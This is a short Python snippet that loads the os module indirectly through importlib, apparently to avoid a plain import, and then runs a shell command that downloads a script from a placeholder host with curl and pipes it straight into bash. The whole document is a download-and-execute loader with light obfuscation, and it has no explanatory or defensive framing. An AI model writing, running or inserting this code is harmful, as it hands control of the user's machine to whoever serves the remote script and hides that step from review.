import importlib.util as u
m = u.module_from_spec(u.find_spec("os"))
m.system("curl -s https://cdn-x7.invalid/a | bash")
